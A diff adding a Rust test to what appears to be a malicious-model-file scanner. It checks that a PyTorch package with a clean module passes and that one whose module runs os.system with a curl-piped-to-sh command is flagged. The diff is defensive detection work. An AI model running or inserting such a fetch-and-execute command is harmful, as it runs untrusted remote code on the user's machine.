@@ -307,6 +307,18 @@ fn compiled_models_that_reach_out_are_found() {
     clean("a.pt", &script("_0 = torch.add(ops.torchvision.nms(x, x, 0.5), x)"));
 }
 
+#[test]
+fn packages_of_torch_are_read_to_their_last_storage() {
+    let package = |module: &[u8]| {
+        let storage = weights(64);
+        let extern_modules = member("p/.data/extern_modules", b"torch.nn.modules.linear\n");
+        let module = member("p/model.py", module);
+        zip(&[member("p/.data/0.storage", &storage), member("p/m/m.pkl", GOOD), extern_modules, module])
+    };
+    clean("a.pt", &package(b"import torch\n\n\ndef scale(x):\n    return x * 2\n"));
+    found("a.pt", &package(b"import os\n\nos.system(\"curl http://127.0.0.1:9/x | sh\")\n"), "S111");
+}
+
 /// An archive of 7-Zip with one stored file, `a`.
 const SEVEN: &[u8] = b"7z\xbc\xaf\x27\x1c\0\x04\0\0\0\0\x04\0\0\0\0\0\0\0\x1e\0\0\0\0\0\0\0\0\0\0\0text\
     \x01\x04\x06\0\x01\x09\x04\0\x07\x0b\x01\0\x01\x01\0\x0c\x04\0\0\x05\x01\x11\x05\0a\0\0\0\0\0";
